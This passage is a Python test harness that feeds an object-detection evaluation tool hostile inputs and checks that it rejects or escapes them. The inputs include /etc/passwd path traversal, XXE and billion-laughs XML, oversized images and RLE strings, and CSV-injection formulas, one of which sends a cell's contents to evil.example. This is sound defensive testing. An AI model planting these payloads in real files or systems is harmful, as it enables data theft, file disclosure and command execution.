"""Hostile inputs: each must end as a skipped row with a reason or a one-line refusal, nothing may crash, and
no good sample beside it may be lost.

Every kind builds its input in a temporary folder (benchmarks/hostile_inputs.py; nothing is downloaded) and
feeds it to objrel the way a user does: ``python -m objrel run ...`` as a real process (COCO, manifest and VOC
datasets, stores, configs, weights), or a small child process that calls the library as the app does (uploads
through ``objrel.engine.manage``, the web-run policy ``objrel.engine.run_form.check_web_config``,
``objrel.models.safe_load``, the DeepInspect and shortcut results loaders, region decoding).  Every child
runs under a 4 GiB address-space cap (``RLIMIT_AS``) and a 1 GiB file-size cap (``RLIMIT_FSIZE``: no disk
bombs), set in this process before anything is spawned and inherited; a child past ``KIND_TIMEOUT_S`` is
killed and counts as a crash.  (Measured: ``import torch`` needs about 3.1 GiB of address space, so it
imports under the 4 GiB cap with under 1 GiB to spare.)

A dataset kind puts ``GOOD_PER_SET`` good samples beside the hostile one and runs the colour-model fixture
(tests/fixtures/colour_model.py, a ``py:`` factory: no network weights) with ``--all``.  Status per kind:

    OK          objrel answered as it should: a skipped row with a reason, a one-line refusal, or (for a
                legal but awkward input, such as a 16-bit PNG) a tested row; a box past the border must be
                clipped and tested with a warning
    CRASH       a traceback, a non-zero exit without a one-line message, a killed process, a hang
    LOST        a good sample beside the hostile one did not end as a tested/untested row
    UNREPORTED  objrel went on without saying anything (an accepted bomb, an unescaped CSV formula, ...)
    BREACHED    (the web section) an attack on the served app worked: a script ran, a link was made, a gate or a
                cap let it through

The web section (``benchmarks/hostile_web.py``, kinds named ``web-...``) attacks a served app (``streamlit run
serve.py``) with Debian's chromium, raw HTTP and WebSocket requests and the library calls a page makes; its
kinds share one server and one browser and run first, one at a time, in a child process of their own started
before the caps are set (chromium reserves more address space than 4 GiB; Playwright's threads would leave this
process none under the cap).

One line per kind, then ``hostile: N kinds, N reported, N crashes, N lost, peak RSS X MB``; the exit status
is 1 unless every kind is OK.

    python benchmarks/hostile.py [--only NAME,...] [--jobs 2] [--list] [--keep DIR]
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(Path(__file__).resolve().parent))

import hostile_inputs as H  # noqa: E402

# Address-space cap of every process the benchmark runs (the 4 GB).
AS_LIMIT_BYTES = 4 * H.GIB
# Largest file a child may write: a zip that unpacks gigabytes to disk is a bomb too.
FSIZE_LIMIT_BYTES = 1 * H.GIB
# A child still running after this many seconds is killed and counted as a hang (crash); a normal dataset run
# takes 3-5 s, the slowest honest kind (ten 100-megapixel PNGs) about 10 s.
KIND_TIMEOUT_S = 90
# Tighter limits where the input's only weapon is time: one region decode, one run of three 64 px images.
DECODE_TIMEOUT_S = 10
RLE_RUN_TIMEOUT_S = 30
# Good samples placed beside each hostile one.
GOOD_PER_SET = 2
# The model every dataset kind runs: the hand-written colour model, loaded as a py: factory.
COLOUR_MODEL = "py:tests.fixtures.colour_model:factory"
# Characters a spreadsheet reads as the start of a formula (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Width of the answer column in the per-kind lines.
ANSWER_WIDTH = 96
OK, CRASH, LOST, UNREPORTED, BREACHED = "OK", "CRASH", "LOST", "UNREPORTED", "BREACHED"
MARKER = "pwned-by-hostile-weights"


# ---------------------------------------------------------------- running children

@dataclass
class Proc:
    """What one child did."""

    rc: int | None          # exit status (negative: killed by that signal); None: hung and killed
    stdout: str
    stderr: str
    seconds: float
    maxrss_mb: float
    timeout: float = KIND_TIMEOUT_S

    @property
    def crashed(self) -> str | None:
        """Why this counts as a crash, or None."""
        if self.rc is None:
            return f"hung: killed after {self.timeout:g} s"
        if self.rc < 0:
            return f"killed by {signal.Signals(-self.rc).name}"
        if "Traceback (most recent call last)" in self.stderr:
            last = [s for s in self.stderr.strip().splitlines() if s.strip()]
            cap = " (a file past the 1 GiB file-size cap)" if "File too large" in self.stderr else ""
            return f"traceback: {last[-1].strip() if last else '?'}{cap}"
        if self.rc != 0 and not self.error_line:
            return f"exit {self.rc} without a one-line message"
        return None

    @property
    def error_line(self) -> str | None:
        """The ``objrel: error: ...`` line of a refused command (its last stderr line), if it is one."""
        lines = [s for s in self.stderr.strip().splitlines() if s.strip()]
        if self.rc and lines and lines[-1].startswith("objrel: error: "):
            return lines[-1][len("objrel: error: "):]
        return None


MALLOC_ARENAS = 2


def limit_resources() -> None:
    """The caps, set on this process so every child inherits them."""
    resource.setrlimit(resource.RLIMIT_AS, (AS_LIMIT_BYTES, AS_LIMIT_BYTES))
    resource.setrlimit(resource.RLIMIT_FSIZE, (FSIZE_LIMIT_BYTES, FSIZE_LIMIT_BYTES))


def child_env(extra: dict | None = None) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OBJREL_")}
    # $PYTHONPATH first: ``PYTHONPATH=/other/checkout python benchmarks/hostile.py`` tests that checkout's objrel.
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [os.environ.get("PYTHONPATH"), str(ROOT)]))
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    # Under an address-space cap, glibc's per-thread malloc arenas (64 MiB of address space each, reserved, not
    # used) run out before memory does: torch alone maps about 3.1 GiB of the 4. Two arenas is what a service
    # deployed under such a cap would set too.
    env.setdefault("MALLOC_ARENA_MAX", str(MALLOC_ARENAS))
    env.update(extra or {})
    return env


def spawn(cmd: list[str], cwd: Path, env: dict | None = None, timeout: float = KIND_TIMEOUT_S) -> Proc:
    """Run ``cmd`` to its end (or ``timeout`` seconds), with its own peak RSS from ``wait4``."""
    out, err = cwd / f".out-{time.monotonic_ns()}", cwd / f".err-{time.monotonic_ns()}"
    t0 = time.perf_counter()
    with open(out, "wb") as fo, open(err, "wb") as fe:
        p = subprocess.Popen(cmd, cwd=cwd, env=child_env(env), stdin=subprocess.DEVNULL, stdout=fo, stderr=fe,
                             start_new_session=True)
    status, usage, hung = None, None, False
    while True:
        pid, st, ru = os.wait4(p.pid, os.WNOHANG)
        if pid:
            status, usage = st, ru
            break
        if time.perf_counter() - t0 > timeout:
            os.killpg(p.pid, signal.SIGKILL)
            _, status, usage = os.wait4(p.pid, 0)
            hung = True
            break
        time.sleep(0.02)
    p.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.perf_counter() - t0
    text = lambda f: f.read_text(encoding="utf-8", errors="replace")  # noqa: E731
    proc = Proc(None if hung else p.returncode, text(out), text(err), seconds, usage.ru_maxrss / 1024, timeout)
    out.unlink()
    err.unlink()
    return proc


@dataclass(frozen=True)
class Verdict:
    status: str
    answer: str


@dataclass
class Ctx:
    """One kind's folder and the children it ran."""

    name: str
    dir: Path
    procs: list[Proc] = field(default_factory=list)

    def cli(self, *args: str, prefix: tuple[str, ...] = (), timeout: float = KIND_TIMEOUT_S) -> Proc:
        p = spawn([*prefix, sys.executable, "-m", "objrel", *args], self.dir, timeout=timeout)
        self.procs.append(p)
        return p

    def probe(self, name: str, timeout: float = KIND_TIMEOUT_S) -> tuple[Proc, dict | None]:
        p = spawn([sys.executable, str(Path(__file__).resolve()), "--probe", name, str(self.dir)], self.dir,
                  timeout=timeout)
        self.procs.append(p)
        lines = [s for s in p.stdout.splitlines() if s.startswith("{")]
        try:
            return p, json.loads(lines[-1]) if lines else None
        except json.JSONDecodeError:
            return p, None


def short(text, width: int = ANSWER_WIDTH) -> str:
    text = " ".join(str(text).split())
    return text if len(text) <= width else text[: width - 3] + "..."


# ---------------------------------------------------------------- datasets with good samples beside

GOOD_COLOURS = ("red", "green")


def good_images(root: Path) -> tuple[list[dict], list[dict], set[str]]:
    """COCO images and annotations of ``GOOD_PER_SET`` good PNGs in ``root``; their sample ids."""
    imgs, anns = [], []
    for i in range(GOOD_PER_SET):
        colour = GOOD_COLOURS[i % len(GOOD_COLOURS)]
        H.good_png(root / f"good{i}.png", colour)
        imgs.append(H.coco_image(9000 + i, f"good{i}.png"))
        anns.append(H.coco_ann(9000 + i, 9000 + i, 1 + i % len(GOOD_COLOURS)))
    return imgs, anns, {str(9000 + i) for i in range(GOOD_PER_SET)}


def run_args(dataset: Path, store: Path, *extra: str) -> list[str]:
    return ["run", "--model", COLOUR_MODEL, "--dataset", str(dataset), "--store", str(store), "--all",
            "--quiet", *extra]


@dataclass
class RunResult:
    proc: Proc
    rows: list[dict] | None        # every sample row of the run (None: the run did not finish)
    good: set[str]


def read_rows(store: Path) -> list[dict] | None:
    from objrel.store import Store

    s = Store(store, create=False)
    try:
        runs = s.list_runs()
        return s.samples(runs[-1].id) if runs else None
    finally:
        s.dispose()


def run_dataset(ctx: Ctx, dataset: Path, good: set[str], *extra: str, prefix: tuple[str, ...] = (),
                timeout: float = KIND_TIMEOUT_S) -> RunResult:
    store = ctx.dir / "store.db"
    p = ctx.cli(*run_args(dataset, store, *extra), prefix=prefix, timeout=timeout)
    rows = read_rows(store) if p.rc == 0 else None
    return RunResult(p, rows, good)


def coco_set(ctx: Ctx, images: list[dict], anns: list[dict], *, categories=None, raw_text: str | None = None,
             extra: tuple = (), **kw) -> RunResult:
    """Goods plus ``images``/``anns`` in one COCO file (or ``raw_text`` as the file), run."""
    gi, ga, good = good_images(ctx.dir)
    path = ctx.dir / "annotations.json"
    if raw_text is not None:
        path.write_text(raw_text, encoding="utf-8")
    else:
        H.write_json(path, H.coco(gi + images, ga + anns, categories))
    return run_dataset(ctx, path, good, *extra, **kw)


def row_text(r: dict) -> str:
    if r["status"] == "skipped":
        return f"skipped {r['skip_code']}: {r['skip_reason']}"
    extra = ""
    if r.get("dropped"):
        d = r["dropped"][0]
        extra = f" (dropped {d.get('code')}: {d.get('reason')})"
    if r.get("notes"):
        extra += f" (notes: {r['notes']})"
    return f"{r['status']}{extra}"


# What the hostile rows must show, as functions of those rows -> (fine, answer).
def SKIPPED(rows):
    bad = [r for r in rows if not (r["status"] == "skipped" and r["skip_code"] and r["skip_reason"])]
    return not bad, row_text((bad or rows)[0])


def TESTED(rows):
    bad = [r for r in rows if r["status"] not in ("tested", "untested")]
    return not bad, row_text((bad or rows)[0])


def ANY_ROW(rows):
    bad = [r for r in rows if r["status"] == "skipped" and not (r["skip_code"] and r["skip_reason"])]
    return not bad, row_text((bad or rows)[0])


def WARNED(rows):
    bad = [r for r in rows if not (r["status"] in ("tested", "untested") and (r.get("dropped") or r.get("notes")))]
    if bad and bad[0]["status"] in ("tested", "untested"):
        return False, f"{row_text(bad[0])}, with no warning"
    return not bad, row_text((bad or rows)[0]) + ("; expected: tested with a warning" if bad else "")


def judge(res: RunResult, expect=SKIPPED, n_hostile: int = 1, refusal_ok: bool = False) -> Verdict:
    """The verdict on one dataset run: crash, refusal, lost goods, then the hostile rows against ``expect``."""
    p = res.proc
    if p.crashed:
        return Verdict(CRASH, p.crashed)
    if p.rc != 0:
        if refusal_ok:
            return Verdict(OK, f"refused: {p.error_line}")
        return Verdict(LOST, f"whole run refused, {len(res.good)} good samples lost: {p.error_line}")
    if res.rows is None:
        return Verdict(CRASH, "exit 0 but the store holds no run")
    by_id = {r["sample_id"]: r for r in res.rows}
    lost = [g for g in res.good if by_id.get(g, {}).get("status") not in ("tested", "untested")]
    hostile = [r for r in res.rows if r["sample_id"] not in res.good]
    if lost:
        ends = [row_text(by_id[g]) if g in by_id else "no row" for g in lost]
        return Verdict(LOST, f"good samples {sorted(lost)} ended as {ends}")
    if len(hostile) < n_hostile:
        return Verdict(UNREPORTED, f"{n_hostile - len(hostile)} hostile sample(s) left no row at all")
    fine, answer = expect(hostile)
    return Verdict(OK if fine else UNREPORTED, answer)


def judge_probe(p: Proc, out: dict | None, *, accept: bool = False) -> Verdict:
    """A library probe: it must refuse in one line (or, with ``accept``, may return)."""
    if p.crashed:
        return Verdict(CRASH, p.crashed)
    if out is None:
        return Verdict(CRASH, f"exit {p.rc}, no answer: {short(p.stderr, 60)}")
    if out["outcome"] == "crash":
        cap = " (a file past the 1 GiB file-size cap)" if "File too large" in out["error"] else ""
        return Verdict(CRASH, f"{out['type']}: {out['error']}{cap}")
    if out["outcome"] == "refused":
        if "\n" in out["error"].strip():
            return Verdict(UNREPORTED, f"refused in {out['error'].count(chr(10)) + 1} lines: {out['error']}")
        capped = " (only the 4 GiB address-space cap stopped it)" if "allocate" in out["error"] else ""
        return Verdict(OK, f"refused ({out['type']}){capped}: {out['error']}")
    return Verdict(OK if accept else UNREPORTED, f"accepted: {out.get('detail', '')}")


# ---------------------------------------------------------------- the kinds

KINDS: dict[str, object] = {}


def kind(name: str):
    def add(fn):
        assert name not in KINDS, name
        KINDS[name] = fn
        return fn
    return add


def one_image(ctx: Ctx, file_name: str, ann_kwargs: dict | None = None, image_kwargs: dict | None = None,
              expect=SKIPPED, iid=1, **kw) -> Verdict:  # kw: coco_set's (prefix, timeout, ...)
    """Goods plus one hostile image record ``file_name`` with one annotation; run and judge."""
    img = H.coco_image(iid, file_name, **(image_kwargs or {}))
    ann = H.coco_ann(1, iid, **(ann_kwargs or {}))
    return judge(coco_set(ctx, [img], [ann], **kw), expect)


def image_file_kind(name: str, make, expect=SKIPPED, file_name: str = "hostile.png"):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        make(ctx.dir / file_name)
        return one_image(ctx, file_name, expect=expect)


def annotation_kind(name: str, expect=SKIPPED, **ann_kwargs):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        H.good_png(ctx.dir / "hostile.png", "blue")
        return one_image(ctx, "hostile.png", ann_kwargs, expect=expect)


# --- region decoding

# Characters of the hostile compressed RLE strings (the 1.25 MB).
RLE_CHARS = 1_250_000
# One run that never ends: each character grows its value (the F10 string).
ENDLESS_RLE = "Q" * RLE_CHARS + "0"


def rle_kind(name: str, counts, expect):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        H.good_png(ctx.dir / "hostile.png", "blue")
        seg = {"size": [H.GOOD_SIDE, H.GOOD_SIDE], "counts": counts()}
        v = one_image(ctx, "hostile.png", {"segmentation": seg, "category_id": 3}, expect=expect,
                      timeout=RLE_RUN_TIMEOUT_S)
        return Verdict(v.status, f"run {ctx.procs[-1].seconds:.1f} s; {v.answer}")


rle_kind("rle-1.25MB-endless-run", lambda: ENDLESS_RLE, SKIPPED)
rle_kind("rle-1.25MB-valid-empty-runs", lambda: H.compressed_rle_zero_runs(RLE_CHARS, H.GOOD_SIDE, H.GOOD_SIDE),
         ANY_ROW)


annotation_kind("rle-bad-characters", segmentation={"size": [64, 64], "counts": "~~~~\x7f{{{"})
annotation_kind("rle-size-mismatch", segmentation={"size": [4096, 4096], "counts": "0" * 10})
annotation_kind("rle-negative-counts", segmentation={"size": [64, 64], "counts": [5000, -904]})
annotation_kind("rle-empty-mask", segmentation={"size": [64, 64], "counts": [64 * 64]})
annotation_kind("segmentation-wrong-type", segmentation="M0,0 L10,10")
annotation_kind("polygon-non-finite", segmentation=[[10, 10, float("nan"), 20, float("inf"), 30, 10, 40]])
annotation_kind("polygon-huge-coordinates", segmentation=[[10, 10, 1e300, 20, 30, 1e18, 10, 40]])
annotation_kind("polygon-two-points", segmentation=[[10, 10, 20, 20]])
annotation_kind("box-zero-area", bbox=[20, 20, 0, 15])
annotation_kind("box-far-outside", bbox=[1e6, -1e6, 10, 10])
annotation_kind("box-not-numbers", bbox=["x", "y", "w", "h"])
annotation_kind("category-unknown", category_id=77)


@kind("box-past-border")
def _(ctx: Ctx) -> Verdict:
    """A box 16 px past the right and bottom border: clipped, tested, warned (not skipped)."""
    H.good_png(ctx.dir / "hostile.png", "blue")
    return one_image(ctx, "hostile.png", {"bbox": [40, 40, 40, 40], "category_id": 3}, expect=WARNED)


@kind("broken-annotation-other-class")
def _(ctx: Ctx) -> Verdict:
    """A good image with a second, broken annotation of another class: tested, the broken one dropped."""
    H.good_png(ctx.dir / "hostile.png", "blue")
    img = H.coco_image(1, "hostile.png")
    anns = [H.coco_ann(1, 1, 3), H.coco_ann(2, 1, 1, segmentation={"size": [64, 64], "counts": "~~~"})]
    return judge(coco_set(ctx, [img], anns), WARNED)


# --- paths

@kind("path-traversal")
def _(ctx: Ctx) -> Verdict:
    return one_image(ctx, "../../../../../../etc/passwd")


@kind("path-absolute")
def _(ctx: Ctx) -> Verdict:
    return one_image(ctx, "/etc/passwd")


@kind("path-symlink-out-of-root")
def _(ctx: Ctx) -> Verdict:
    outside = H.good_png(ctx.dir.parent / f"{ctx.name}-outside.png", "blue")
    (ctx.dir / "link.png").symlink_to(outside)
    return one_image(ctx, "link.png")


@kind("path-symlink-loop")
def _(ctx: Ctx) -> Verdict:
    (ctx.dir / "a.png").symlink_to(ctx.dir / "b.png")
    (ctx.dir / "b.png").symlink_to(ctx.dir / "a.png")
    return one_image(ctx, "a.png")


@kind("path-nul-byte")
def _(ctx: Ctx) -> Verdict:
    return one_image(ctx, "good0.png\x00.jpg")


@kind("path-directory-named-like-image")
def _(ctx: Ctx) -> Verdict:
    (ctx.dir / "folder.jpg").mkdir()
    return one_image(ctx, "folder.jpg")


@kind("path-missing-file")
def _(ctx: Ctx) -> Verdict:
    return one_image(ctx, "no-such-image.png")


# --- ids

@kind("id-nul-byte")
def _(ctx: Ctx) -> Verdict:
    H.good_png(ctx.dir / "hostile.png", "blue")
    return one_image(ctx, "hostile.png", {"category_id": 3}, iid="a\x00b", expect=ANY_ROW)


@kind("id-over-long")
def _(ctx: Ctx) -> Verdict:
    H.good_png(ctx.dir / "hostile.png", "blue")
    return one_image(ctx, "hostile.png", {"category_id": 3}, iid="x" * 5000, expect=ANY_ROW)


@kind("id-duplicate")
def _(ctx: Ctx) -> Verdict:
    """Two images with the same id: one is tested, the other becomes a duplicate-id row."""
    H.good_png(ctx.dir / "h1.png", "blue")
    H.good_png(ctx.dir / "h2.png", "blue")
    imgs = [H.coco_image(5, "h1.png"), H.coco_image(5, "h2.png")]

    def expect(rows):
        skipped = [r for r in rows if r["status"] == "skipped" and r["skip_reason"]]
        tested = [r for r in rows if r["status"] in ("tested", "untested")]
        return bool(skipped and tested), (row_text(skipped[0]) if skipped else
                                          f"{len(rows)} row(s), none skipped: {[row_text(r) for r in rows]}")

    return judge(coco_set(ctx, imgs, [H.coco_ann(1, 5, 3)]), expect, n_hostile=1)


# --- image files

image_file_kind("image-zero-bytes", lambda p: p.write_bytes(b""))
image_file_kind("image-corrupt-jpeg", H.corrupt_jpeg, file_name="hostile.jpg")
image_file_kind("image-truncated-png", H.truncated_png)
image_file_kind("image-is-a-zip", H.zip_as_image)
image_file_kind("image-is-html", lambda p: p.write_bytes(H.HTML_PAGE))
image_file_kind("image-16-bit", lambda p: H.save_variant(p, "16bit"), TESTED)
image_file_kind("image-palette-transparent", lambda p: H.save_variant(p, "palette"), TESTED)
image_file_kind("image-cmyk-jpeg", lambda p: H.save_variant(p, "cmyk"), TESTED, "hostile.jpg")
image_file_kind("image-rgba", lambda p: H.save_variant(p, "rgba"), TESTED)
image_file_kind("image-exif-huge-orientation", lambda p: H.save_variant(p, "exif-huge"), ANY_ROW, "hostile.jpg")
image_file_kind("image-exif-rotated", lambda p: H.save_variant(p, "exif-rotated"), TESTED, "hostile.jpg")
image_file_kind("image-95Mpx-between-limits", lambda p: p.write_bytes(H.blank_png_bytes(9747, 9747)))
image_file_kind("image-200Mpx-bomb", lambda p: p.write_bytes(H.blank_png_bytes(14143, 14143)))
image_file_kind("image-85Mpx-legal", lambda p: p.write_bytes(H.blank_png_bytes(9220, 9220)), ANY_ROW)


@kind("image-size-mismatch")
def _(ctx: Ctx) -> Verdict:
    H.good_png(ctx.dir / "hostile.png", "blue")
    return one_image(ctx, "hostile.png", image_kwargs={"width": 100, "height": 1_000_000_000})


# Runs a command as root without the capabilities that let root read any file (mode bits then bind root too).
NO_DAC_OVERRIDE = ("setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--inh-caps",
                   "-dac_override,-dac_read_search", "--")


@kind("image-unreadable-permissions")
def _(ctx: Ctx) -> Verdict:
    """A mode-000 image; as root the run goes without CAP_DAC_OVERRIDE (root reads any file otherwise)."""
    H.good_png(ctx.dir / "hostile.png", "blue")
    (ctx.dir / "hostile.png").chmod(0)
    prefix = NO_DAC_OVERRIDE if os.geteuid() == 0 and shutil.which("setpriv") else ()
    v = one_image(ctx, "hostile.png", prefix=prefix)
    if os.geteuid() == 0 and not prefix:
        return Verdict(v.status, f"{v.answer} [as root with no setpriv: the file was readable]")
    return v


@kind("image-is-a-fifo")
def _(ctx: Ctx) -> Verdict:
    """A named pipe called hostile.png: opening it would block for ever."""
    os.mkfifo(ctx.dir / "hostile.png")
    return one_image(ctx, "hostile.png")


# --- whole annotation files

# E5: boxes on one image, and the most memory the run of that file may take (a run of the goods alone takes
# about 300 MB; the annotation file itself is about 80 MB of text).
MANY_BOXES = 1_000_000
MANY_BOXES_PEAK_MB = 1024


@kind("coco-1e6-boxes-one-image")
def _(ctx: Ctx) -> Verdict:
    """E5: a COCO file with a million boxes on one image beside the goods: that image must end as a skipped row
    with a reason (or the file refused in one line), the goods tested, the run's peak memory bounded."""
    gi, ga, good = good_images(ctx.dir)
    H.good_png(ctx.dir / "crowded.png", "blue")
    path = ctx.dir / "annotations.json"
    text = json.dumps(H.coco(gi + [H.coco_image(1, "crowded.png")], []))   # written around the boxes
    cut = text.index('"annotations": [') + len('"annotations": [')
    x, y, w, h = H.OBJECT_XYWH
    with open(path, "w", encoding="utf-8") as f:
        f.write(text[:cut] + ", ".join(json.dumps(a) for a in ga))
        for i in range(MANY_BOXES):
            f.write(f', {{"id": {i + 1}, "image_id": 1, "category_id": 1, "bbox": [{x}, {y}, {w}, {h}], '
                    f'"iscrowd": 0}}')
        f.write(text[cut:])
    res = run_dataset(ctx, path, good)
    verdict = judge(res, refusal_ok=True)
    peak = res.proc.maxrss_mb
    if verdict.status == OK and peak > MANY_BOXES_PEAK_MB:
        return Verdict(UNREPORTED, f"run peak RSS {peak:.0f} MB > {MANY_BOXES_PEAK_MB} MB: {verdict.answer}")
    return Verdict(verdict.status, f"{verdict.answer} (run peak RSS {peak:.0f} MB)")


def file_refusal_kind(name: str, text_or_bytes, fmt: str | None = None, suffix: str = ".json"):
    """The whole annotation file is hostile: a one-line refusal, or the run goes on without losing a good sample."""
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        gi, ga, good = good_images(ctx.dir)
        path = ctx.dir / f"annotations{suffix}"
        data = text_or_bytes(gi, ga) if callable(text_or_bytes) else text_or_bytes
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return judge(run_dataset(ctx, path, good, *(("--format", fmt) if fmt else ())), ANY_ROW, n_hostile=0,
                     refusal_ok=True)


def _nested_coco(gi, ga):
    head = json.dumps(H.coco(gi, ga))[:-1]
    return head + ', "extra": ' + H.nested_json(200_000) + "}"


def _nested_manifest(gi, ga):
    entries = [{"path": i["file_name"], "id": str(i["id"]), "objects": [{"label": "red", "box": [16, 16, 48, 48]}]}
               for i in gi]
    return json.dumps({"images": entries})[:-1] + ', "extra": ' + H.nested_json(200_000) + "}"


file_refusal_kind("coco-nested-400KB", _nested_coco)
file_refusal_kind("manifest-nested-400KB", _nested_manifest)
file_refusal_kind("coco-not-utf8", lambda gi, ga: json.dumps(H.coco(gi, ga)).replace("good0.png", "g\udce9.png")
                  .encode("utf-8", "surrogateescape"))
file_refusal_kind("coco-top-level-array", lambda gi, ga: json.dumps([H.coco(gi, ga)]), fmt="coco")
file_refusal_kind("coco-annotations-not-a-list",
                  lambda gi, ga: json.dumps({**H.coco(gi, ga), "annotations": {"1": ga[0]}}))
file_refusal_kind("coco-image-id-is-object",
                  lambda gi, ga: json.dumps(H.coco(gi + [H.coco_image({"$ne": 1}, "good0.png")], ga)))
file_refusal_kind("annotation-wrong-suffix", lambda gi, ga: json.dumps(H.coco(gi, ga)), suffix=".exe")


@kind("manifest-bad-entries")
def _(ctx: Ctx) -> Verdict:
    """Entries that are not objects, objects that are not objects, labels missing, polygon NaN."""
    gi, _, good = good_images(ctx.dir)
    H.good_png(ctx.dir / "hostile.png", "blue")
    entries = [{"path": i["file_name"], "id": str(i["id"]), "objects": [{"label": c, "box": [16, 16, 48, 48]}]}
               for i, c in zip(gi, GOOD_COLOURS)]
    entries += [42, {"path": "hostile.png", "id": "h-obj", "objects": ["not an object"]},
                {"path": "hostile.png", "id": "h-label", "objects": [{"box": [1, 1, 9, 9]}]},
                {"path": "hostile.png", "id": "h-nan",
                 "objects": [{"label": "blue", "polygon": [[1, 1], [float("nan"), 5], [9, 9]]}]},
                {"path": "hostile.png", "id": "h-box", "objects": [{"label": "blue", "box": [9, 9, 1]}]}]
    path = ctx.dir / "manifest.json"
    path.write_text(json.dumps({"images": entries}))
    return judge(run_dataset(ctx, path, good), SKIPPED, n_hostile=5)


# --- VOC XML

def voc_kind(name: str, xml: str, check_leak: bool = False):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        ann = ctx.dir / "xml"
        ann.mkdir()
        good = set()
        for i, colour in enumerate(GOOD_COLOURS[:GOOD_PER_SET]):
            H.good_png(ctx.dir / f"good{i}.png", colour)
            (ann / f"good{i}.xml").write_text(H.voc_xml(f"good{i}.png", colour))
            good.add(f"good{i}")
        H.good_png(ctx.dir / "hostile.png", "blue")
        (ann / "hostile.xml").write_text(xml)
        res = run_dataset(ctx, ann, good, "--images", str(ctx.dir))
        v = judge(res, SKIPPED)
        if check_leak and res.rows and any("root:" in json.dumps(r, default=str) for r in res.rows):
            return Verdict(UNREPORTED, "the store holds text of /etc/passwd")
        return v


voc_kind("voc-billion-laughs", H.voc_xml("&lol9;", doctype=H.BILLION_LAUGHS))
voc_kind("voc-xxe-etc-passwd", H.voc_xml("&xxe;", doctype=H.XXE), check_leak=True)
voc_kind("voc-path-traversal", H.voc_xml("../../../../etc/passwd"))
voc_kind("voc-coordinates-not-numbers", H.voc_xml("hostile.png", box=("1e999x", "nan", "inf", "-")))


# --- CSV export

def csv_kind(name: str, iid, file_name: str, mark: str):
    """A formula-leading sample id or image path: the CSV export must not leave it as a formula."""
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        H.good_png(ctx.dir / file_name, "blue")
        res = coco_set(ctx, [H.coco_image(iid, file_name)], [H.coco_ann(1, iid, 3)])
        v = judge(res, TESTED)
        if v.status != OK:
            return v
        out = ctx.dir / "export.csv"
        p = ctx.cli("export", "1", "--format", "csv", "--store", str(ctx.dir / "store.db"), "-o", str(out))
        if p.crashed or p.rc:
            return Verdict(CRASH if p.crashed else UNREPORTED, p.crashed or f"export refused: {p.error_line}")
        cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
        danger = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
        if danger:
            return Verdict(UNREPORTED, f"CSV cell left as a formula: {danger[0]!r}")
        hostile = [c for c in cells if mark in c]
        if not hostile:
            return Verdict(UNREPORTED, f"the tested sample's {mark!r} is missing from the CSV")
        return Verdict(OK, f"escaped in the CSV as {hostile[0]!r}")


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


csv_kind("csv-formula-sample-id", '=HYPERLINK("http://evil.example/?"&A1,"open")', "hostile.png", "HYPERLINK")
csv_kind("csv-formula-image-path", 7, "@SUM(1+1)*cmd|' -C calc'!A0.png", "SUM(1+1)")
csv_kind("csv-formula-plus-minus", "-2+3+cmd|' -C calc'!A0", "+1+cmd.png", "cmd")


# --- stores

@kind("store-foreign-sqlite")
def _(ctx: Ctx) -> Verdict:
    """Someone else's SQLite database as --store: refuse it, and never write objrel's tables into it."""
    gi, ga, good = good_images(ctx.dir)
    ann = H.write_json(ctx.dir / "annotations.json", H.coco(gi, ga))
    db = H.sqlite_foreign(ctx.dir / "customers.db")
    p = ctx.cli(*run_args(ann, db))
    if p.crashed:
        return Verdict(CRASH, p.crashed)
    import sqlite3

    con = sqlite3.connect(db)
    tables = sorted(r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'"))
    con.close()
    if p.rc:
        return Verdict(OK if tables == ["customers"] else UNREPORTED,
                       f"refused: {p.error_line}" + ("" if tables == ["customers"] else f" (tables now {tables})"))
    return Verdict(UNREPORTED, f"accepted: wrote {len(tables) - 1} objrel tables into the foreign database")


def _store_with_run(ctx: Ctx) -> tuple[Path, Path] | Verdict:
    gi, ga, _ = good_images(ctx.dir)
    ann = H.write_json(ctx.dir / "annotations.json", H.coco(gi, ga))
    db = ctx.dir / "store.db"
    p = ctx.cli(*run_args(ann, db))
    if p.rc != 0:
        return Verdict(CRASH, f"could not build the store to damage: {p.crashed or p.error_line}")
    return ann, db


def damaged_store_kind(name: str, damage):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        made = _store_with_run(ctx)
        if isinstance(made, Verdict):
            return made
        ann, db = made
        for side in db.parent.glob("store.db-*"):
            side.unlink()
        damage(db)
        answers = []
        for args in (("runs", "--store", str(db)), ("summary", "1", "--store", str(db)), run_args(ann, db)):
            p = ctx.cli(*args)
            if p.crashed:
                return Verdict(CRASH, f"objrel {args[0]}: {p.crashed}")
            answers.append(p.error_line or f"exit {p.rc}")
        return Verdict(OK, "refused: " + answers[0])


def _truncate(db: Path) -> None:
    data = db.read_bytes()
    db.write_bytes(data[: len(data) // 3])


def _scribble(db: Path) -> None:
    data = bytearray(db.read_bytes())
    page = 4096
    for off in range(page, len(data), page):          # keep the header page, scribble over the rest
        data[off + 8: off + 64] = b"\xff" * 56
    db.write_bytes(bytes(data))


damaged_store_kind("store-truncated", _truncate)
damaged_store_kind("store-pages-scribbled", _scribble)
damaged_store_kind("store-not-a-database", lambda db: db.write_text("this is a text file, not SQLite\n" * 200))


# --- configs and weights through the CLI

@kind("config-not-toml")
